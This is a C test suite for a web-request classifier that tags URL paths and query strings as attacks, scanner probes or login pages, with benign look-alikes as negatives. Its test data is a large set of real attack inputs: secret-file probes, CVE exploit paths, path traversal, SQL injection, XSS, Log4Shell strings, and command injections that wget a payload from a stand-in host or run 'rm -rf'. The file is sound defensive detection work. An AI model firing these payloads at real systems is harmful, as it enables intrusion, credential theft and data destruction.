/*
 * What is an attack is from the public notices of the holes (CVE numbers beside them), OWASP's
 * pages on injection, and what scanners are widely seen to ask for. What is ordinary was written by
 * hand to look as much like an attack as a person's URL can.
 */
#include "parser/traits.h"

#include <check.h>
#include <stdlib.h>
#include <sys/mman.h>
#include <unistd.h>

#include "base/memory.h"

#define LENGTH(array) (sizeof(array) / sizeof(array)[0])

enum { LIMIT = 8 * 1024 };

static struct trait_rules *rules;

static void set_up(void)
{
    rules = trait_rules_new();
}

static void tear_down(void)
{
    trait_rules_free(rules);
}

/* ---- paths ---- */

static const struct {
    const char *path;
    unsigned traits;
} paths[] = {
    {"/robots.txt", TRAIT_ROBOTS},
    {"/Robots.TXT", TRAIT_ROBOTS},
    {"//robots.txt", TRAIT_ROBOTS},
    {"/robots.txtx", 0},
    {"/de/robots.txt", 0},
    {"/robots%2Etxt", TRAIT_ROBOTS},

    {"/.env", TRAIT_ATTACK},
    {"/.ENV.production", TRAIT_ATTACK},
    {"/api/.env.local", TRAIT_ATTACK},
    {"/%2eenv", TRAIT_ATTACK},
    {"/%2Eenv", TRAIT_ATTACK},
    {"//.env", TRAIT_ATTACK},
    {".env", TRAIT_ATTACK},
    {"/%252eenv", 0}, /* decoded once */
    {"/.git/config", TRAIT_ATTACK},
    {"/backend//.git/HEAD", TRAIT_ATTACK},
    {"/.git", TRAIT_ATTACK},
    {"/.svn/entries", TRAIT_ATTACK},
    {"/.aws/credentials", TRAIT_ATTACK},
    {"/.ssh/id_rsa", TRAIT_ATTACK},
    {"/.htpasswd", TRAIT_ATTACK},
    {"/.DS_Store", TRAIT_ATTACK},
    {"/.vscode/sftp.json", TRAIT_ATTACK},
    {"/wp-config.php", TRAIT_ATTACK},
    {"/wp-config.php.bak", TRAIT_ATTACK},
    {"/old/wp-config.php~", TRAIT_ATTACK},
    {"/.wp-config.php.swp", TRAIT_ATTACK},
    {"/index.php.old", TRAIT_ATTACK},
    {"/backup.sql", TRAIT_ATTACK},
    {"/backup.tar.gz", TRAIT_ATTACK},
    {"/dump.sql.gz", TRAIT_ATTACK},
    {"/wwwroot.rar", TRAIT_ATTACK},
    {"/app/etc/local.xml", TRAIT_ATTACK},
    {"/config/database.yml", TRAIT_ATTACK},
    {"/sites/default/settings.php.bak", TRAIT_ATTACK},

    {"/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php", TRAIT_ATTACK}, /* CVE-2017-9841 */
    {"/lib/phpunit/phpunit/Util/PHP/eval-stdin.php", TRAIT_ATTACK},
    {"/_ignition/execute-solution", TRAIT_ATTACK}, /* CVE-2021-3129 */
    {"/_profiler/phpinfo", TRAIT_ATTACK},
    {"/boaform/admin/formLogin", TRAIT_ATTACK},
    {"/HNAP1/", TRAIT_ATTACK},             /* CVE-2015-2051 */
    {"/GponForm/diag_Form", TRAIT_ATTACK}, /* CVE-2018-10561 */
    {"/goform/set_LimitClient_cfg", TRAIT_ATTACK},
    {"/cgi-bin/luci/;stok=/locale", TRAIT_ATTACK}, /* CVE-2023-1389 */
    {"/cgi-bin/luci", TRAIT_ATTACK},
    {"/setup.cgi", TRAIT_ATTACK},
    {"/SDK/webLanguage", TRAIT_ATTACK},                    /* CVE-2021-36260 */
    {"/owa/auth/x.js", TRAIT_ATTACK | TRAIT_PROBE},        /* CVE-2021-26855 */
    {"/developmentserver/metadatauploader", TRAIT_ATTACK}, /* CVE-2025-31324 */
    {"/remote/fgt_lang", TRAIT_ATTACK},                    /* CVE-2018-13379 */
    {"/wls-wsat/CoordinatorPortType", TRAIT_ATTACK},       /* CVE-2017-10271 */
    {"/containers/json", TRAIT_ATTACK},
    {"/evox/about", TRAIT_ATTACK},
    {"/nmaplowercheck1766383126", TRAIT_ATTACK},
    {"/nice%20ports%2C/Tri%6Eity.txt%2ebak", TRAIT_ATTACK},
    {"/alfa.php", TRAIT_ATTACK},
    {"/wp-content/c99.php", TRAIT_ATTACK},
    {"/uploads/wso.php", TRAIT_ATTACK},

    {"/etc/passwd", TRAIT_ATTACK},
    {"/../../../../etc/passwd", TRAIT_ATTACK},
    {"/..%2f..%2f..%2fetc%2fpasswd", TRAIT_ATTACK},
    {"/cgi-bin/.%2e/.%2e/.%2e/bin/sh", TRAIT_ATTACK}, /* CVE-2021-41773 */
    {"/cgi-bin/%%32%65%%32%65/%%32%65%%32%65/bin/sh", TRAIT_ATTACK},

    {"/..%252f..%252fproc/self/environ", TRAIT_ATTACK},
    {"/static/..%5c..%5c..%5cwindows/win.ini", TRAIT_ATTACK},
    {"/scripts/..%c0%af../winnt/system32/cmd.exe", TRAIT_ATTACK}, /* CVE-2000-0884 */
    {"/app/..;/manager/html", TRAIT_ATTACK},
    {"/%24%7Bjndi:ldap://192.0.2.1/a%7D", TRAIT_ATTACK}, /* CVE-2021-44228 */
    {"/bin/zhttpd/${IFS}cd${IFS}/tmp;${IFS}rm", TRAIT_ATTACK},

    {"/wp-login.php", TRAIT_PROBE | TRAIT_LOGIN},
    {"/blog/wp-login.php/", TRAIT_PROBE | TRAIT_LOGIN},
    {"//xmlrpc.php", TRAIT_PROBE | TRAIT_LOGIN | TRAIT_REMOTE},
    {"/wp-admin/", TRAIT_PROBE},
    {"/wp-admin", TRAIT_PROBE},
    {"/wp-admin/setup-config.php", TRAIT_PROBE},
    {"/wp-admin/admin-ajax.php", 0},
    {"/page/10/wp-admin/admin-post.php", 0},
    {"/wp/wp-includes/wlwmanifest.xml", TRAIT_PROBE},
    {"/phpMyAdmin/", TRAIT_PROBE},
    {"/db/phpmyadmin/index.php", TRAIT_PROBE},
    {"/pma", TRAIT_PROBE},
    {"/adminer.php", TRAIT_PROBE},
    {"/administrator/", TRAIT_PROBE | TRAIT_LOGIN},
    {"/administrator/index.php", TRAIT_PROBE | TRAIT_LOGIN},
    {"/administrator/manifests/files/joomla.xml", TRAIT_PROBE},
    {"/manager/html", TRAIT_PROBE},
    {"/actuator/env", TRAIT_PROBE},
    {"/actuator/gateway/routes", TRAIT_PROBE},
    {"/solr/admin/info/system", TRAIT_PROBE},
    {"/telescope/requests", TRAIT_PROBE},
    {"/debug/default/view", TRAIT_PROBE},
    {"/console/", TRAIT_PROBE},
    {"/shell", TRAIT_PROBE},
    {"/+CSCOE+/logon.html", TRAIT_PROBE},

    {"/login", TRAIT_LOGIN},
    {"/Login/", TRAIT_LOGIN},
    {"/login;jsessionid=0A1B2C", TRAIT_LOGIN},
    {"/de/user/login", TRAIT_LOGIN},
    {"/account/login.php", TRAIT_LOGIN},
    {"/customer/account/loginPost/", TRAIT_LOGIN},
    {"/users/sign_in", TRAIT_LOGIN},
    {"/signin", TRAIT_LOGIN},
    {"/sign-in", TRAIT_LOGIN},
    {"/log-in", TRAIT_LOGIN},
    {"/anmelden", TRAIT_LOGIN},
    {"/connexion", TRAIT_LOGIN},
    {"/inloggen", TRAIT_LOGIN},
    {"/iniciar-sesion", TRAIT_LOGIN},
    {"/iniciar-sesi%C3%B3n", TRAIT_LOGIN},
    {"/accedi", TRAIT_LOGIN},
    {"/entrar", TRAIT_LOGIN},
    {"/logowanie", TRAIT_LOGIN},
    {"/logga-in", TRAIT_LOGIN},
    {"/log-ind", TRAIT_LOGIN},
    {"/session", TRAIT_LOGIN},
    {"/admin/sessions", TRAIT_LOGIN},
    {"/auth", TRAIT_LOGIN},
    {"/auth/refresh", 0},
    {"/session/alive", 0},
    {"/oauth/token", 0},
    {"/blog/login-problems", 0},
    {"/catalogin", 0},
    {"/logins", 0},
};

START_TEST(path_has_its_traits)
{
    unsigned got = traits_of_path(rules, slice_of(paths[_i].path));
    ck_assert_msg(got == paths[_i].traits, "%s: %u instead of %u", paths[_i].path, got,
                  paths[_i].traits);
}
END_TEST

static const char *const ordinary_paths[] = {
    "",
    "/",
    "/index.html",
    "/blog/how-to-protect-your-.env-file",
    "/blog/what-is-a-.env",
    "/docs/git/config",
    "/git/config",
    "/shell-eco-marathon",
    "/shell/plc",
    "/products/union-jack-select",
    "/products/actuator",
    "/actuator/linear-12v",
    "/actuator/health",
    "/telescope/dobson-200",
    "/console/ps5",
    "/shop/console",
    "/vendor/acme-shoes",
    "/vendor/composer-of-the-year",
    "/environment",
    "/env/report-2024",
    "/gitarren/western",
    "/wiki/.htaccess",
    "/wiki/Etc/passwd",
    "/questions/tagged/.env",
    "/tag/.git/",
    "/team/shop/-/blob/main/.gitignore",
    "/team/shop/blob/main/.env.example",
    "/team/shop/src/branch/main/.github/workflows/build.yml",
    "/team/shop/raw/main/web.config",
    "/org/.github",
    "/team/shop.git/info/refs",
    "/.well-known/acme-challenge/abc",
    "/.well-known/security.txt",
    "/docs/reference/web.config",
    "/blog/wp-config-php-explained",
    "/blog/wordpress-wp-admin-tips",
    "/hilfe/phpmyadmin-einrichten",
    "/how-to-read-etc-passwd",
    "/downloads/backup.zip",
    "/backup-plan",
    "/backups/sql-server",
    "/kb/restore-dump.sql-files",
    "/docs/../images/logo.png", /* programs that resolve nothing */
    "/a/..hidden/b",
    "/wait...what/really",
    "/release/v1..v2",
    "/manager/html5-course",
    "/jobs/shop-manager/html",
    "/administrator-jobs",
    "/team/administrator/",
    "/setup",
    "/setup.cgi-guide",
    "/portal/",
    "/webuilder",
    "/user/goformore",
    "/hnap10/",
    "/cgi-bin/guestbook.pl",
    "/search.php",
    "/alfa.phpx",
    "/cars/alfa-romeo",
    "/de/schuhe/%C3%B6ko-sneaker",
    "/caf%e9",
    "/100%",
    "/100%25-cotton",
    "/wp-content/uploads/2024/05/photo.jpg",
    "/wp-content/plugins/forms/style.css",
    "/wp-json/wp/v2/posts",
    "/feed/",
    "/my-account/orders/",
    "/cart/add.js",
    "/forum/viewtopic.php",
    "/shop;color=red/shoes",
    "/config",
    "/authors/jane",
    "/sessions-2024/keynote",
    "/id_rsa-explained",
    "/etc",
    "/passwd",
};

START_TEST(ordinary_path_has_none)
{
    unsigned got = traits_of_path(rules, slice_of(ordinary_paths[_i]));
    ck_assert_msg(got == 0, "%s: %u", ordinary_paths[_i], got);
}
END_TEST

/* ---- queries ---- */

static const char *const attacks[] = {
    "id=1+union+select+1,2,3",
    "id=-1%20UNION%20ALL%20SELECT%20NULL,NULL--",
    "id=1'/**/union/**/select/**/password/**/from/**/users--",
    "id=1%27%0aUnIoN%0aSeLeCt%0achar(97)",
    "aid=1+/*!50000union*//*!50000select*/1,2,(select+concat(0x7c,pwd))",
    "id=1+union(select+1),2--",
    "x='+and+(select+count(*)+from+information_schema.tables)>0--",
    "user=admin'+or+1=1--",
    "user=admin'%20OR%20'1'='1",
    "user=%22%20or%20%22%22=%22",
    "id=1+or+1=1",
    "id=1+and+1=2",
    "id=1%27+order+by+1--",
    "id=1'+and+sleep(5)--+",
    "id=(select(0)from(select(sleep(15)))v)",
    "id=if(now()=sysdate(),sleep(15),0)",
    "id=1;select+pg_sleep(5)--",
    "id=1';WAITFOR+DELAY+'0:0:5'--",
    "id=1+and+benchmark(5000000,md5(1))",
    "id=1+and+extractvalue(1,concat(0x7e,version()))",
    "id=1;drop+table+users",
    "id=1;exec+xp_cmdshell",
    "s=%3Cscript%3Ealert(1)%3C/script%3E",
    "q=<ScRiPt>prompt(1)",
    "q=%22%3E%3Cscript%20src=//192.0.2.1%3E",
    "name=<img+src=x+onerror=alert(1)>",
    "name=%3Csvg/onload=alert%601%60%3E",
    "u=javascript:alert(document.cookie)",
    "a=%22%20onmouseover=%22alert(1)",
    "file=../../../../etc/passwd",
    "file=..%2f..%2f..%2f..%2fetc%2fpasswd",
    "file=..%252f..%252f..%252fetc%252fpasswd",
    "file=%252e%252e%252fetc",
    "file=..\\..\\..\\windows\\win.ini",
    "img=../wp-config.php",
    "img=..%2Fwp-config.php",
    "page=/etc/passwd",
    "page=/etc/passwd%00",
    "page=/proc/self/environ",
    "page=php://filter/convert.base64-encode/resource=index.php",
    "url=file:///etc/hosts",
    "x=${jndi:ldap://192.0.2.1/a}",
    "x=%24%7Bjndi%3Armi%3A//192.0.2.1%7D",
    "x=${${lower:j}ndi:ldap://192.0.2.1}",
    "x=${${::-j}${::-n}di:ldap://192.0.2.1}",
    "name={{7*7}}",
    "name=%7B%7B7*7%7D%7D",
    "name=${7*7}",
    "name=<%25=7*7%25>",
    "redirect=%25%7B(%23_memberAccess)%7D",
    "class.module.classLoader.resources.context.parent.pipeline.first.pattern=%25%7Bc2%7Di",
    "ip=127.0.0.1;wget+http://192.0.2.1/m.sh",
    "ip=127.0.0.1%7Cwget%20http://192.0.2.1",
    "cmd=`id`",
    "cmd=$(id)",
    "cmd=1|cat+/etc/hosts",
    "cd+/tmp;rm+-rf+*;wget+192.0.2.1/jaws",
    "todo=syscmd&cmd=rm+-rf+/tmp/*;/bin/sh",
    "x=wget${IFS}192.0.2.1",
    "a=eval(base64_decode('YQ=='))",
    "%ADd+allow_url_include%3d1+%ADd+auto_prepend_file%3dphp://input",
    "s=/index/%5Cthink%5Capp/invokefunction&function=call_user_func_array",
    "action=revslider_show_image&img=../config.php",
    "15=phpinfo();",
    "a=*/*&id=1+union/*x*/select+1,2",
    "a=/*&id=1+union+select+1,2",
};

START_TEST(attack_is_seen)
{
    ck_assert_msg(traits_query_attacks(rules, slice_of(attacks[_i])), "%s", attacks[_i]);
}
END_TEST

static const char *const ordinary_queries[] = {
    "",
    "page=2",
    "utm_source=news&utm_medium=email&utm_campaign=spring-24",
    "gclid=EAIaIQobChMI_abc-123",
    "q=select+a+union+member",
    "q=union+select",
    "q=union+select+a+member+from+each+state",
    "q=credit+union+(select+one)",
    "q=students+union+all+select+committees",
    "q=what+is+information_schema.tables",
    "q=select+*+from+information_schema.columns",
    "q=o'reilly+and+sons",
    "q=rock+'n'+roll+or+jazz",
    "q=guns+n'+roses+or+1",
    "q=1+and+1",
    "q=sleep()+in+c",
    "q=alternative+for+sleep(5)",
    "q=mysql+select+sleep(5)",
    "q=delay+and+sleep(10)",
    "q='%3B+drop+table+students",
    "q=drop+table+lamp;+oak",
    "q=order+by+1",
    "q=sql+'select'+order+by+name",
    "q=benchmark(1000)",
    "q=%3Cscript%3E+tag",
    "q=script+alert(+example",
    "q=javascript:+the+good+parts",
    "q=javascript%3Avoid(0)",
    "q=onerror=+handler",
    "q=%3Cimg%3E+alt+text",
    "q=/etc/passwd",
    "s=%2Fetc%2Fpasswd",
    "q=what+is+/etc/passwd",
    "q=php://input",
    "q=phpinfo()",
    "q=wp-config.php",
    "q=rm+-rf+/tmp",
    "q=wget+http://example.org",
    "q=curl+or+wget",
    "q=cat+/proc/cpuinfo",
    "q=c++%7C+rust",
    "q=bash+id+command",
    "return=/account/orders",
    "next=%2Fcart%3Fstep%3D2",
    "return=../../shop/cart",
    "url=https%3A%2F%2Fexample.org%2Fa%2Fb%3Fc%3Dd%26e%3Df",
    "ref=..%2Findex.php",
    "fields=title|id&page=2",
    "sort=price|asc",
    "view=a;id=3;sort=up",
    "filter[]=red&filter[]=blue",
    "filter%5Bsize%5D=42",
    "range=1..5",
    "v=1.2.3",
    "accept=*/*",
    "glob=/img/*.png",
    "a=/*+comment+*/",
    "tpl={{name}}",
    "greeting=Hello+{{first_name}}",
    "price=${price}",
    "amount=$20",
    "x=7*7",
    "json=%7B%22id%22%3A1%2C%22name%22%3A%22O%27Neil%22%7D",
    "q=100%",
    "q=100%25",
    "q=%",
    "name=Jos%C3%A9+%26+Co",
    "text=He+said+%22or+else%22",
    "title=Tom+%26+Jerry's+or+1+other",
    "color=%23ff0000",
    "token=YWJj%2BZGVm%2FZw%3D%3D",
    "q=java.lang.runtime",
    "q=__class__.__name__",
    "q=jndi+lookup",
    "q=base64_decode()",
    "eq=a'+or+b'",
    "load%5B%5D=jquery-core,jquery-migrate,utils&ver=4.4.2",
};

START_TEST(ordinary_query_is_none)
{
    ck_assert_msg(!traits_query_attacks(rules, slice_of(ordinary_queries[_i])), "%s",
                  ordinary_queries[_i]);
}
END_TEST

/* ---- hostile texts ---- */

/* Every text, and all that it is when its end is cut off, ends where memory does. */
START_TEST(stops_at_a_guard_page)
{
    size_t page = (size_t)sysconf(_SC_PAGESIZE);
    char *pages = mmap(NULL, 2 * page, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
    ck_assert(pages != MAP_FAILED);
    ck_assert(mprotect(pages + page, page, PROT_NONE) == 0);
    struct slice attack = slice_of(attacks[_i]);
    for (size_t size = attack.size; size > 0; size--) {
        struct slice text = {pages + page - size, size};
        memcpy(pages + page - size, attack.at, size);
        bool is_attack = traits_query_attacks(rules, text);
        ck_assert(is_attack || size < attack.size);
        traits_of_path(rules, text);
    }
    munmap(pages, 2 * page);
}
END_TEST

static char *filled(size_t size, const char *piece)
{
    char *text = mem_alloc(size);
    for (size_t i = 0; i < size; i++)
        text[i] = piece[i % strlen(piece)];
    return text;
}

static const char *const pieces[] = {"/",  "//", "%", "%2", "%2f", "/*", "/*!",  "*/", "/**/", "'",
                                     "\"", ";",  ".", "..", "../", "+",  "\xff", "{",  "<",    "a"};

/* Far more than counts, of what is hard to take apart. */
START_TEST(long_texts_end)
{
    size_t size = 64 * 1024;
    char *text = filled(size, pieces[_i]);
    for (size_t cut = 0; cut < 4; cut++) {
        struct slice long_text = {text + cut, size - cut};
        bool goes_up = strstr(pieces[_i], "../") != NULL;
        ck_assert_int_eq(traits_query_attacks(rules, long_text), goes_up);
        ck_assert_uint_eq(traits_of_path(rules, long_text), goes_up ? TRAIT_ATTACK : 0);
    }
    mem_free(text);
}
END_TEST

/* The first 8 KiB count. */
START_TEST(end_of_a_long_text_does_not_count)
{
    static const char attack[] = "/.env", query[] = "'+or+1=1";
    char *text = filled(LIMIT + 64, "a");
    memcpy(text + LIMIT - 5, attack, 5);
    ck_assert_uint_eq(traits_of_path(rules, (struct slice){text, LIMIT + 64}), TRAIT_ATTACK);
    memcpy(text + LIMIT - 5, "a/.env", 6);
    ck_assert_uint_eq(traits_of_path(rules, (struct slice){text, LIMIT + 64}), 0);
    memcpy(text + LIMIT - 8, query, 8);
    ck_assert(traits_query_attacks(rules, (struct slice){text, LIMIT + 64}));
    memcpy(text + LIMIT - 8, "a'+or+1=1", 9);
    ck_assert(!traits_query_attacks(rules, (struct slice){text, LIMIT + 64}));
    mem_free(text);
}
END_TEST

/* The marks that the comparison uses inside cannot be written by anybody. */
START_TEST(marks_cannot_be_forged)
{
    ck_assert_uint_eq(traits_of_path(rules, SLICE_LITERAL("/a%01/backup.sql")), 0);
    ck_assert_uint_eq(traits_of_path(rules, SLICE_LITERAL("/a\1/backup.sql")), 0);
    ck_assert_uint_eq(traits_of_path(rules, SLICE_LITERAL("/auth/%02/b")), 0);
    ck_assert_uint_eq(traits_of_path(rules, SLICE_LITERAL("/a\0/.env")), TRAIT_ATTACK);
    ck_assert_uint_eq(traits_of_path(rules, (struct slice){NULL, 0}), 0);
    ck_assert(!traits_query_attacks(rules, (struct slice){NULL, 0}));
    trait_rules_free(NULL);
}
END_TEST

int main(void)
{
    Suite *suite = suite_create("traits");
    TCase *tests = tcase_create("traits");
    tcase_add_checked_fixture(tests, set_up, tear_down);
    tcase_add_loop_test(tests, path_has_its_traits, 0, (int)LENGTH(paths));
    tcase_add_loop_test(tests, ordinary_path_has_none, 0, (int)LENGTH(ordinary_paths));
    tcase_add_loop_test(tests, attack_is_seen, 0, (int)LENGTH(attacks));
    tcase_add_loop_test(tests, ordinary_query_is_none, 0, (int)LENGTH(ordinary_queries));
    tcase_add_loop_test(tests, stops_at_a_guard_page, 0, (int)LENGTH(attacks));
    tcase_add_loop_test(tests, long_texts_end, 0, (int)LENGTH(pieces));
    tcase_add_test(tests, end_of_a_long_text_does_not_count);
    tcase_add_test(tests, marks_cannot_be_forged);
    suite_add_tcase(suite, tests);
    SRunner *runner = srunner_create(suite);
    srunner_run_all(runner, CK_NORMAL);
    int failed = srunner_ntests_failed(runner);
    srunner_free(runner);
    return failed ? EXIT_FAILURE : EXIT_SUCCESS;
}
